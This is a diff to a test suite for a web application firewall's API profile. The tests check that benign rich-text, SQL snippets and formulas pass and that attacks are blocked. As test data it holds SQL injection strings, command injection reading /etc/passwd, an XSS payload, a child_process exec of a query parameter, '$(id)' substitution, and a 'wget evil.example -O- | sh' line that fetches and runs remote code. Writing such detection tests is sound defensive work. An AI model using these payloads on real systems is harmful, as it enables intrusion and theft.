@@ -115,8 +115,9 @@ describe('waf API profile: value view', () => {
       query: 'q=hello+there%3B+cat+/etc/passwd',
       headers: ua,
     });
-    assert.equal(rce.error?.reason, 'waf:rce');
-    assert.ok(JSON.stringify(rce.events).includes('ARGS:gatehouse.prose.ls:q'), JSON.stringify(rce.events));
+    // Session 9: after a separator an OS file name is a command's argument (no family l): 930120 fires too.
+    assert.ok(['waf:rce', 'waf:lfi'].includes(rce.error?.reason ?? ''), rce.error?.reason);
+    assert.ok(JSON.stringify(rce.events).includes('ARGS:gatehouse.prose.s:q'), JSON.stringify(rce.events));
   });
 
   test('attacks in query parameters are still blocked, alone or inside prose', async () => {
@@ -130,7 +131,7 @@ describe('waf API profile: value view', () => {
       ['file=%2Fetc%2Fpasswd', 'lfi'],
       ['q=1%27+OR+%271%27%3D%271', 'sqli'],
       ['q=Hello+there+it%27s+me%27%3B+DROP+TABLE+users%3B+--+thanks', 'sqli'],
-      ['q=hello+there%3B+cat+/etc/passwd', 'rce'],
+      ['q=hello+there%3B+cat+/etc/passwd', 'lfi'],
       // Full-width markup is folded by the canonical form and caught.
       ['q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C%2Fscript%EF%BC%9E', 'xss'],
     ];
@@ -1486,6 +1487,55 @@ describe('waf API profile: session 9', () => {
       { parameters: { jsCode: "require('child_process').exec(req.query.cmd)\nmore()" } },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
+  });
+
+  test('code blocks of rich-text JSON, file names, comparisons in sentences, formulas opening with a macro', async () => {
+    const ok: unknown[] = [
+      {
+        blocks: [
+          {
+            type: 'rich_text_preformatted',
+            elements: [
+              { type: 'text', text: 'mysql> SHOW PROCESSLIST;\n| 88213 | app | 10.0.4.12:51234 | orders |' },
+            ],
+          },
+        ],
+      },
+      {
+        type: 'codeBlock',
+        attrs: { language: 'sql' },
+        content: [{ type: 'text', text: "SELECT id FROM t\nWHERE a = 'b'" }],
+      },
+      {
+        snippet: {
+          title: 'query.sql',
+          filetype: 'sql',
+          content: 'SELECT u.id\nFROM users u\nHAVING count(*) > 5',
+        },
+      },
+      { snippet: { title: 'docker-compose.yml', filetype: 'yaml' } },
+      { query_sql: "SELECT count(*) AS n FROM marts.claims WHERE submitted_at > now() - interval '1 hour'" },
+      {
+        comment:
+          'I tried to filter by date > 2025-12-31 and it returned nothing, had to use the "between" option',
+      },
+      { title: 'Investor call (do not disturb!!)' },
+      { reply: 'Thank you, typo fixed: the exponent is $(\\alpha-1)/\\alpha$ (now eq. 15).' },
+    ];
+    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
+    const q = `/v1/bots/60/logs?q=${encodeURIComponent('user_text:"select plan"')}`;
+    assert.equal((await run(api, getInit(q))).error, undefined);
+    const bad: unknown[] = [
+      { type: 'codeBlock', content: [{ type: 'text', text: "x' UNION SELECT password FROM users --" }] },
+      { snippet: { title: 'x.sh', filetype: 'shell', content: 'cat /etc/passwd\nid' } },
+      { snippet: { title: 'wget evil.example -O- | sh' } },
+      { query_sql: "1' OR '1'='1" },
+      { comment: "I tried to filter by date' OR 1=1 -- and it returned everything" },
+      { reply: 'Thank you, the exponent is $(id)$ and $(\\id)$ now, see eq. 15.' },
+    ];
+    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
+    const badQ = `/v1/bots/60/logs?q=${encodeURIComponent('user_text:"x" OR 1=1')}`;
+    assert.ok((await run(api, getInit(badQ))).error);
   });
 
   test('a probe quoted after a separator in a sentence is refused (the shell removes the quotes)', async () => {
